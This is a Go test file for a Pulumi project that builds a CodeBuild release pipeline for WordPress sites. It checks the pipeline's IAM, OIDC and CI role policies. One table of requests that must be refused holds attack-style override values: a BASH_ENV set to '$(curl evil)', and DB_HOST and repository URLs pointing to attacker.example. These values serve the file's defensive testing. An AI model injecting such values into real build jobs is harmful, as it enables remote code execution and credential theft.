package tests

import (
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/pulumi/pulumi/sdk/v3/go/pulumi"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"

	"github.com/wpfleet/wpfleet/components"
	"github.com/wpfleet/wpfleet/mocks"
	"github.com/wpfleet/wpfleet/release"
)

func projectEnv(p mocks.Resource) map[string]string {
	env := map[string]string{}
	for _, v := range at(p.Inputs, "environment.environmentVariables").([]any) {
		env[str(at(v, "name"))] = str(at(v, "value"))
		if at(v, "type") != "PLAINTEXT" {
			panic("non-plaintext variable " + str(at(v, "name")))
		}
	}
	return env
}

// buildspecDigest is the source digest the project's buildspec pins.
func buildspecDigest(t *testing.T, p mocks.Resource) string {
	t.Helper()
	var bs struct {
		Phases map[string]struct {
			Commands []string `yaml:"commands"`
		} `yaml:"phases"`
	}
	require.NoError(t, yaml.Unmarshal([]byte(str(at(p.Inputs, "source.buildspec"))), &bs))
	for _, c := range bs.Phases["pre_build"].Commands {
		if i := strings.Index(c, "  SHA256SUMS\" | sha256sum --check"); i > 64 {
			return c[i-64 : i]
		}
	}
	t.Fatal("the buildspec pins no source digest")
	return ""
}

// One CodeBuild project releases every site of an environment; its settings are in its source
// (settings.json, pinned by the buildspec), and the only variables are the three CI may set.
func TestReleasePipelineGraph(t *testing.T) {
	for _, stack := range stacks {
		t.Run(stack, func(t *testing.T) {
			res := shippedStack(t, stack)
			projects := res.ByType("aws:codebuild/project:Project")
			require.Len(t, projects, 1, "one project for all sites")
			p := projects[0]
			assert.Equal(t, stack+"-wordpress-release", p.Inputs["name"])
			assert.Equal(t, map[string]string{"RELEASE_PATH": "", "BRANCH": "main", "ACTION": "release"}, projectEnv(p),
				"the job's settings live in settings.json, not in variables a build can override")
			assert.NotContains(t, str(at(p.Inputs, "source.buildspec")), release.DigestPlaceholder)
			// The settings, readable beside the source, are the ones the buildspec pins.
			settingsObj, ok := res.Find("aws:s3/bucketObjectv2:BucketObjectv2", stack+"-release-settings")
			require.True(t, ok)
			assert.Equal(t, "settings.json", settingsObj.Inputs["key"])
			settings := jsonInput(t, settingsObj, "content").(map[string]any)
			_, digest := release.Source(release.Files(), str(settingsObj.Inputs["content"]))
			assert.Equal(t, digest, buildspecDigest(t, p))
			assert.Equal(t, strings.Join(siteNames(t, stackConfig(t, stack).Config), " "), sortedWords(str(settings["WPFLEET_SITES"])))
			assert.Equal(t, "wpfleet/"+stack+"/", settings["SITE_SECRET_PREFIX"])
			for k, v := range settings {
				assert.Falsef(t, secretLike.MatchString(k) && !strings.HasSuffix(k, "_ARN") && k != "SITE_SECRET_PREFIX", "%s=%s looks secret", k, v)
			}
			assert.Equal(t, "S3", at(p.Inputs, "source.type"))
			assert.Equal(t, true, at(p.Inputs, "environment.privilegedMode"), "to mount EFS with TLS and IAM, and for bubblewrap")
			// In the VPC's private subnets, with the release security group.
			vpc := onlyOne(t, res.Resources, "awsx:ec2:Vpc", stack)
			assert.Equal(t, vpc.Outputs["privateSubnetIds"], at(p.Inputs, "vpcConfig.subnets"))
			sg, _ := res.Find("aws:ec2/securityGroup:SecurityGroup", stack+"-release")
			assert.Equal(t, []any{sg.ID}, at(p.Inputs, "vpcConfig.securityGroupIds"))
			assert.Equal(t, "/wpfleet/"+stack+"/release", at(p.Inputs, "logsConfig.cloudwatchLogs.groupName"))

			// The source bucket keeps versions.
			comp := component(t, res, "ReleasePipeline", stack+"-release")
			var versioning mocks.Resource
			for _, r := range ofType(res.Descendants(comp.URN), "aws:s3/bucketVersioningV2:BucketVersioningV2") {
				versioning = r
			}
			assert.Equal(t, "Enabled", at(versioning.Inputs, "versioningConfiguration.status"))

			// Its role: this file system through the release access point, the master and
			// site secrets, its logs; nothing more.
			var role mocks.Resource
			for _, rp := range ofType(res.Descendants(comp.URN), "aws:iam/rolePolicy:RolePolicy") {
				if rp.Name == stack+"-release" {
					role = rp
				}
			}
			doc := jsonInput(t, role, "policy")
			fs := res.ByType("aws:efs/fileSystem:FileSystem")[0]
			db := res.ByType("aws:rds/cluster:Cluster")[0]
			var mount, secrets map[string]any
			ap := res.ByType("aws:efs/accessPoint:AccessPoint")
			var releaseAP mocks.Resource
			for _, a := range ap {
				if at(a.Inputs, "rootDirectory.path") == "/sites" {
					releaseAP = a
				}
			}
			for _, st := range statements(doc) {
				switch st["Sid"] {
				case "MountSitesReadWrite":
					mount = st
				case "ReadDatabaseSecrets":
					secrets = st
				}
			}
			assert.Equal(t, []any{fs.Outputs["arn"]}, mount["Resource"])
			assert.Equal(t, releaseAP.Outputs["arn"], at(mount, "Condition.StringEquals.elasticfilesystem:AccessPointArn"))
			assert.Contains(t, secrets["Resource"], str(at(db.Outputs, "masterUserSecrets.0.secretArn")))
			assert.Contains(t, secrets["Resource"], "arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:wpfleet/"+stack+"/*/db-??????")

			// Only this job (and no web task) can read the master secret.
			master := str(at(db.Outputs, "masterUserSecrets.0.secretArn"))
			for _, rp := range res.ByType("aws:iam/rolePolicy:RolePolicy") {
				if strings.Contains(str(rp.Inputs["policy"]), master) {
					assert.Equal(t, stack+"-release", rp.Name, "%s can read the master secret", rp.Name)
				}
			}
			// The release job's group is a workload of the platform: it reaches EFS and MySQL.
			platform := component(t, res, "Platform", stack)
			assert.Equal(t, platform.URN, sg.Parent)
			for _, port := range []int64{2049, 3306} {
				found := false
				for _, r := range res.ByType("aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule") {
					if r.Inputs["fromPort"] == port && r.Inputs["referencedSecurityGroupId"] == sg.ID {
						found = true
					}
				}
				assert.Truef(t, found, "port %d admits the release job", port)
			}
			// Failed releases reach the alarm topic.
			rule, ok := res.Find("aws:cloudwatch/eventRule:EventRule", stack+"-release-failures")
			require.True(t, ok)
			pattern := jsonInput(t, rule, "eventPattern")
			assert.Equal(t, []any{stack + "-wordpress-release"}, at(pattern, "detail.project-name"))
			assert.Contains(t, at(pattern, "detail.build-status"), "FAILED")
			assert.Contains(t, str(res.Outputs["releaseStartCommand"]), "--project-name "+stack+"-wordpress-release")
			assert.Contains(t, str(res.Outputs["releaseStartCommand"]), "name=RELEASE_PATH,value=<site>")
		})
	}
}

// --- IAM evaluation of StartBuild requests ----------------------------------------------

// startBuild is a StartBuild request as IAM sees it: the request context CodeBuild fills
// (codebuild:environment.environmentVariables.name holds every overridden name,
// .../<name>.value each value; a Bool key such as codebuild:source.buildspec is present when
// the request overrides that member).
type startBuild struct {
	vars    map[string]string
	present []string // overridden project members, as their condition keys
}

func (r startBuild) context() map[string][]string {
	c := map[string][]string{}
	for n, v := range r.vars {
		c["codebuild:environment.environmentVariables.name"] = append(c["codebuild:environment.environmentVariables.name"], n)
		c["codebuild:environment.environmentVariables/"+n+".value"] = []string{v}
	}
	for _, k := range r.present {
		c[k] = []string{"true"}
	}
	return c
}

// allowed evaluates an identity policy for codebuild:StartBuild on resource, with the
// operators the CI policies use (IAM's documented semantics: explicit deny wins; a missing key
// fails StringEquals and StringLike, passes ForAllValues and ...IfExists, and Null is about
// presence).
func allowed(t *testing.T, doc any, resource string, req startBuild) bool {
	t.Helper()
	ctx := req.context()
	allow := false
	for _, st := range statements(doc) {
		if !contains(strList(st["Action"]), "codebuild:StartBuild") || !contains(strList(st["Resource"]), resource) {
			continue
		}
		if !conditionsHold(t, st["Condition"], ctx) {
			continue
		}
		if st["Effect"] == "Deny" {
			return false
		}
		allow = true
	}
	return allow
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// iamLike is StringLike's match: * any characters (slashes too), ? one.
func iamLike(pattern, s string) bool {
	re := "^" + strings.NewReplacer(`\*`, ".*", `\?`, ".").Replace(regexp.QuoteMeta(pattern)) + "$"
	return regexp.MustCompile(re).MatchString(s)
}

func conditionsHold(t *testing.T, cond any, ctx map[string][]string) bool {
	m, _ := cond.(map[string]any)
	for op, keys := range m {
		for key, want := range keys.(map[string]any) {
			vals, present := ctx[key]
			wants := strList(want)
			switch op {
			case "StringEquals":
				if !present || !contains(wants, vals[0]) {
					return false
				}
			case "StringEqualsIfExists":
				if present && !contains(wants, vals[0]) {
					return false
				}
			case "ForAllValues:StringEquals":
				for _, v := range vals {
					if !contains(wants, v) {
						return false
					}
				}
			case "StringLike":
				ok := false
				for _, w := range wants {
					if present && iamLike(w, vals[0]) {
						ok = true
					}
				}
				if !ok {
					return false
				}
			case "Null":
				if (want == "true") != !present {
					return false
				}
			default:
				t.Fatalf("operator %s is not evaluated here", op)
			}
		}
	}
	return true
}

// TestCIRolePerRepository: each GitHub repository (stg) and CircleCI project has its own role,
// trusted only by its OIDC subjects, that may start builds of this project for its own site,
// with no override but RELEASE_PATH (that site), BRANCH and ACTION, and watch them.
func TestCIRolePerRepository(t *testing.T) {
	stg := shippedStack(t, "stg")
	project := "arn:aws:codebuild:ap-northeast-1:123456789012:project/stg-wordpress-release"
	for repo, site := range map[string]string{"example-corp/wp-corporate": "corporate", "example-corp/wp-engineerblog": "engineerblog", "example-corp/wp-news": "news"} {
		name := "stg-release-ci-gh-" + strings.ReplaceAll(strings.ReplaceAll(repo, "/", "-"), "_", "-")
		role, ok := stg.Find("aws:iam/role:Role", name)
		require.True(t, ok, "role %s", name)
		sts := statements(jsonInput(t, role, "assumeRolePolicy"))
		require.Len(t, sts, 1)
		cond := sts[0]["Condition"].(map[string]any)
		subs := strList(cond["StringLike"].(map[string]any)["token.actions.githubusercontent.com:sub"])
		require.NotEmpty(t, subs)
		for _, s := range subs {
			assert.True(t, strings.HasPrefix(s, "repo:"+repo+":ref:refs/heads/"), "%s trusts %s", name, s)
		}
		assert.Equal(t, "sts.amazonaws.com", cond["StringEquals"].(map[string]any)["token.actions.githubusercontent.com:aud"])
		pol, ok := stg.Find("aws:iam/rolePolicy:RolePolicy", name)
		require.True(t, ok)
		doc := jsonInput(t, pol, "policy")
		ok1 := startBuild{vars: map[string]string{"RELEASE_PATH": site, "BRANCH": "develop"}}
		assert.True(t, allowed(t, doc, project, ok1), "%s may release %s", repo, site)
		assert.True(t, allowed(t, doc, project, startBuild{vars: map[string]string{"RELEASE_PATH": site, "ACTION": "rollback"}}))
		for desc, req := range map[string]startBuild{
			"another site":         {vars: map[string]string{"RELEASE_PATH": "other", "BRANCH": "main"}},
			"no site":              {vars: map[string]string{"BRANCH": "main"}},
			"DB_HOST override":     {vars: map[string]string{"RELEASE_PATH": site, "DB_HOST": "attacker.example"}},
			"REPO_URL override":    {vars: map[string]string{"RELEASE_PATH": site, "REPO_URL_NEWS": "https://attacker.example/x.git"}},
			"BASH_ENV override":    {vars: map[string]string{"RELEASE_PATH": site, "BASH_ENV": "$(curl evil)"}},
			"unknown action":       {vars: map[string]string{"RELEASE_PATH": site, "ACTION": "deploy"}},
			"secret reference":     {vars: map[string]string{"RELEASE_PATH": site, "BRANCH": "wpfleet/stg/news/db:password"}},
			"buildspec override":   {vars: map[string]string{"RELEASE_PATH": site}, present: []string{"codebuild:source.buildspec", "codebuild:source"}},
			"source override":      {vars: map[string]string{"RELEASE_PATH": site}, present: []string{"codebuild:source.location", "codebuild:source"}},
			"image override":       {vars: map[string]string{"RELEASE_PATH": site}, present: []string{"codebuild:environment.image"}},
			"privileged override":  {vars: map[string]string{"RELEASE_PATH": site}, present: []string{"codebuild:environment.privilegedMode"}},
			"service role":         {vars: map[string]string{"RELEASE_PATH": site}, present: []string{"codebuild:serviceRole"}},
			"logs off":             {vars: map[string]string{"RELEASE_PATH": site}, present: []string{"codebuild:logsConfig"}},
			"secondary source":     {vars: map[string]string{"RELEASE_PATH": site}, present: []string{"codebuild:secondarySources"}},
			"registry credentials": {vars: map[string]string{"RELEASE_PATH": site}, present: []string{"codebuild:environment.registryCredential"}},
		} {
			assert.False(t, allowed(t, doc, project, req), "%s: %s must be refused", repo, desc)
		}
		assert.False(t, allowed(t, doc, "arn:aws:codebuild:ap-northeast-1:123456789012:project/other", ok1), "another project")
	}
	// The prod stack's CircleCI projects each release their own site
	// (wpfleet:ciCircleciProjectSites) and no other.
	prod := shippedStack(t, "prod")
	prodProject := "arn:aws:codebuild:ap-northeast-1:123456789012:project/prod-wordpress-release"
	sites := map[string]string{"7a0e9d12": "corporate", "0b1c2d3e": "news"}
	seen := 0
	for _, rp := range prod.ByType("aws:iam/rolePolicy:RolePolicy") {
		if !strings.HasPrefix(rp.Name, "prod-release-ci-cc-") {
			continue
		}
		own := sites[strings.TrimPrefix(rp.Name, "prod-release-ci-cc-")]
		require.NotEmptyf(t, own, "a CircleCI role of an unknown project: %s", rp.Name)
		doc := jsonInput(t, rp, "policy")
		for _, s := range []string{"corporate", "news"} {
			assert.Equalf(t, s == own, allowed(t, doc, prodProject, startBuild{vars: map[string]string{"RELEASE_PATH": s, "BRANCH": "main"}}),
				"%s releasing %s", rp.Name, s)
		}
		seen++
	}
	assert.Equal(t, 2, seen, "one role per CircleCI project")
}

func releaseRequired() *components.ReleasePipelineArgs {
	p := func(s string) pulumi.String { return pulumi.String(s) }
	return &components.ReleasePipelineArgs{Environment: "test", Tags: tags, Sites: []string{"blog", "news"},
		RepoURLTemplate: "https://github.com/acme/wp-{site}.git", VpcId: vpcID, SubnetIds: subnets, SecurityGroupId: p("sg-release"),
		FileSystemId: p("fs-1"), FileSystemArn: p("arn:aws:elasticfilesystem:ap-northeast-1:123456789012:file-system/fs-1"),
		AccessPointId: p("fsap-r"), AccessPointArn: p("arn:aws:elasticfilesystem:ap-northeast-1:123456789012:access-point/fsap-r"),
		DatabaseHost: p("db.cluster-x.ap-northeast-1.rds.amazonaws.com"), MasterSecretArn: p("arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:rds!cluster-x"),
		Buildspec: release.Buildspec(), Files: release.Files(), AlarmTopicArn: p("arn:aws:sns:ap-northeast-1:123456789012:t")}
}

func TestReleasePipelineComponent(t *testing.T) {
	t.Run("required args only", func(t *testing.T) {
		a := releaseRequired()
		res := mustRun(t, func(ctx *pulumi.Context) error {
			_, err := components.NewReleasePipeline(ctx, "rel", a)
			return err
		})
		assert.Empty(t, res.ByType("aws:iam/openIdConnectProvider:OpenIdConnectProvider"), "no CI identity unless asked")
		p := one(t, res, "aws:codebuild/project:Project")
		settings := a.Settings(map[string]string{"DB_HOST": "db.cluster-x.ap-northeast-1.rds.amazonaws.com",
			"DB_MASTER_SECRET_ARN": "arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:rds!cluster-x",
			"EFS_FILE_SYSTEM_ID":   "fs-1", "EFS_ACCESS_POINT_ID": "fsap-r"}, nil)
		assert.Equal(t, "5", settings["KEEP_RELEASES"])
		assert.Equal(t, "blog news", settings["WPFLEET_SITES"])
		assert.Equal(t, "/mnt/sites", settings["WPFLEET_SITES_ROOT"])
		assert.NotContains(t, settings, "GIT_CREDENTIALS_SECRET_ARN")
		assert.NotContains(t, settings, "WPFLEET_CDN_DISTRIBUTIONS")
		// The buildspec pins exactly the source made of these settings.
		_, digest := release.Source(release.Files(), components.SettingsJSON(settings))
		assert.Equal(t, digest, buildspecDigest(t, p))
		obj, ok := res.Find("aws:s3/bucketObjectv2:BucketObjectv2", "rel-source")
		require.True(t, ok)
		assert.Equal(t, "release.zip", obj.Inputs["key"])
		settingsObj, ok := res.Find("aws:s3/bucketObjectv2:BucketObjectv2", "rel-settings")
		require.True(t, ok)
		assert.JSONEq(t, components.SettingsJSON(settings), str(settingsObj.Inputs["content"]))
		assert.Contains(t, release.Files(), "src/release/job/main.go", "the job's source ships with the buildspec")
		pol := one(t, res, "aws:iam/rolePolicy:RolePolicy")
		assert.NotContains(t, str(pol.Inputs["policy"]), "cloudfront:")
	})
	t.Run("all args", func(t *testing.T) {
		a := releaseRequired()
		a.SiteRepoURLs = map[string]string{"news": "https://git.example.com/newsroom.git"}
		a.GitCredentialsSecretArn = "arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:git-Ab12Cd"
		a.ConnectionArn = "arn:aws:codeconnections:ap-northeast-1:123456789012:connection/0a1b2c3d-4e5f-6789-abcd-ef0123456789"
		a.KeepReleases, a.LogRetentionDays, a.TimeoutMinutes = 10, 90, 60
		a.GitHub = []components.GitHubRelease{{Repository: "acme/wp-blog", Branches: []string{"main"}},
			{Repository: "acme/newsroom", Branches: []string{"main"}, Site: "news"}}
		a.CircleCI = &components.CircleCIRelease{OrgID: "3f1c2a90-6d4e-4b7a-9c1f-0e5d8b2a7c44",
			ProjectIDs: []string{"7a0e9d12-3b4c-4d5e-8f60-718293a4b5c6"}, ProjectSites: map[string]string{"7a0e9d12-3b4c-4d5e-8f60-718293a4b5c6": "news"}}
		a.GitHubOIDCProviderArn = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com"
		a.CDNDistributions = map[string]pulumi.StringInput{"blog": pulumi.String("E1BLOGDIST"),
			"news": pulumi.String("arn:aws:cloudfront::123456789012:distribution/E2NEWSDIST")}
		res := mustRun(t, func(ctx *pulumi.Context) error {
			_, err := components.NewReleasePipeline(ctx, "rel", a)
			return err
		})
		p := one(t, res, "aws:codebuild/project:Project")
		settings := a.Settings(map[string]string{"DB_HOST": "db.cluster-x.ap-northeast-1.rds.amazonaws.com",
			"DB_MASTER_SECRET_ARN": "arn:aws:secretsmanager:ap-northeast-1:123456789012:secret:rds!cluster-x",
			"EFS_FILE_SYSTEM_ID":   "fs-1", "EFS_ACCESS_POINT_ID": "fsap-r"},
			map[string]string{"blog": "E1BLOGDIST", "news": "arn:aws:cloudfront::123456789012:distribution/E2NEWSDIST"})
		assert.Equal(t, "blog=E1BLOGDIST news=E2NEWSDIST", settings["WPFLEET_CDN_DISTRIBUTIONS"])
		assert.Equal(t, "https://git.example.com/newsroom.git", settings["REPO_URL_NEWS"])
		assert.Equal(t, "10", settings["KEEP_RELEASES"])
		_, digest := release.Source(release.Files(), components.SettingsJSON(settings))
		assert.Equal(t, digest, buildspecDigest(t, p))
		assert.EqualValues(t, 60, p.Inputs["buildTimeout"])
		providers := res.ByType("aws:iam/openIdConnectProvider:OpenIdConnectProvider")
		require.Len(t, providers, 1, "GitHub's provider is reused, CircleCI's created")
		assert.Equal(t, "https://oidc.circleci.com/org/3f1c2a90-6d4e-4b7a-9c1f-0e5d8b2a7c44", providers[0].Inputs["url"])
		assert.Len(t, res.ByType("aws:iam/role:Role"), 4, "the job's role and three CI roles")
		project := "arn:aws:codebuild:ap-northeast-1:123456789012:project/test-wordpress-release"
		for name, site := range map[string]string{"rel-ci-gh-acme-wp-blog": "blog", "rel-ci-gh-acme-newsroom": "news", "rel-ci-cc-7a0e9d12": "news"} {
			pol, ok := res.Find("aws:iam/rolePolicy:RolePolicy", name)
			require.True(t, ok, name)
			doc := jsonInput(t, pol, "policy")
			assert.True(t, allowed(t, doc, project, startBuild{vars: map[string]string{"RELEASE_PATH": site}}), name)
			for _, other := range []string{"blog", "news"} {
				if other != site {
					assert.False(t, allowed(t, doc, project, startBuild{vars: map[string]string{"RELEASE_PATH": other}}), "%s starts %s", name, other)
				}
			}
		}
		role, _ := res.Find("aws:iam/rolePolicy:RolePolicy", "rel")
		doc := jsonInput(t, role, "policy")
		var cdn map[string]any
		for _, st := range statements(doc) {
			if st["Sid"] == "InvalidateSiteDistributions" {
				cdn = st
			}
		}
		require.NotNil(t, cdn, "the job may invalidate the sites' distributions")
		assert.Equal(t, []string{"cloudfront:CreateInvalidation"}, strList(cdn["Action"]))
		assert.ElementsMatch(t, []string{"arn:aws:cloudfront::123456789012:distribution/E1BLOGDIST",
			"arn:aws:cloudfront::123456789012:distribution/E2NEWSDIST"}, strList(cdn["Resource"]))
		assert.Contains(t, role.Inputs["policy"], "codeconnections:UseConnection")
		assert.Contains(t, role.Inputs["policy"], "secret:git-Ab12Cd")
	})
	t.Run("invalid", func(t *testing.T) {
		_, rec, err := runProgram(t, func(ctx *pulumi.Context) error {
			a := releaseRequired()
			a.RepoURLTemplate = "https://user:token@github.com/acme/wp.git"
			a.GitHub = []components.GitHubRelease{{Repository: "acme/*", Branches: []string{"*"}},
				{Repository: "acme/unrelated", Branches: []string{"main"}}, {Repository: "acme/x", Branches: []string{"main"}, Site: "shop"}}
			a.CircleCI = &components.CircleCIRelease{OrgID: "3f1c2a90-6d4e-4b7a-9c1f-0e5d8b2a7c44",
				ProjectSites: map[string]string{"7a0e9d12-3b4c-4d5e-8f60-718293a4b5c6": "shop"}}
			a.CDNDistributions = map[string]pulumi.StringInput{"shop": pulumi.String("E1")}
			_, err := components.NewReleasePipeline(ctx, "rel", a)
			return err
		})
		require.Error(t, err)
		for _, want := range []string{"ReleasePipelineArgs.RepoURLTemplate", `ReleasePipelineArgs.GitHub[0].Repository: "acme/*" is not valid`,
			"branch names without wildcards", `ReleasePipelineArgs.GitHub[2].Site: "shop" is not valid; one of the sites (blog, news)`, "ReleasePipelineArgs.CircleCI.ProjectSites[7a0e9d12-3b4c-4d5e-8f60-718293a4b5c6]",
			"ReleasePipelineArgs.CDNDistributions[shop]", "https://***@github.com/acme/wp.git"} {
			assert.Contains(t, err.Error(), want)
		}
		assert.NotContains(t, err.Error(), "token", "a credential in a URL is never echoed")
		assert.Empty(t, rec.Resources())
	})
}

// The site of a GitHub repository is inferred through the URL template only when exactly one
// site's URL is that repository; a repository matching none, or several, gets a role that may
// watch builds but start none.
func TestGitHubSiteInference(t *testing.T) {
	project := "arn:aws:codebuild:ap-northeast-1:123456789012:project/test-wordpress-release"
	may := func(a *components.ReleasePipelineArgs, role, site string) bool {
		res := mustRun(t, func(ctx *pulumi.Context) error {
			_, err := components.NewReleasePipeline(ctx, "rel", a)
			return err
		})
		pol, ok := res.Find("aws:iam/rolePolicy:RolePolicy", role)
		require.True(t, ok, role)
		return allowed(t, jsonInput(t, pol, "policy"), project, startBuild{vars: map[string]string{"RELEASE_PATH": site}})
	}
	a := releaseRequired()
	a.GitHub = []components.GitHubRelease{{Repository: "ACME/wp-news", Branches: []string{"main"}}}
	assert.True(t, may(a, "rel-ci-gh-acme-wp-news", "news"), "inferred from the template")
	assert.False(t, may(a, "rel-ci-gh-acme-wp-news", "blog"))
	a.SiteRepoURLs = map[string]string{"blog": "https://github.com/acme/wp-news.git"}
	assert.False(t, may(a, "rel-ci-gh-acme-wp-news", "news"), "two sites with the same repository: ambiguous, no site")
	assert.False(t, may(a, "rel-ci-gh-acme-wp-news", "blog"))
	a.GitHub[0].Site = "blog"
	assert.True(t, may(a, "rel-ci-gh-acme-wp-news", "blog"), "an explicit site")
	assert.False(t, may(a, "rel-ci-gh-acme-wp-news", "news"))
}

func sortedWords(s string) string {
	w := strings.Fields(s)
	sort.Strings(w)
	return strings.Join(w, " ")
}
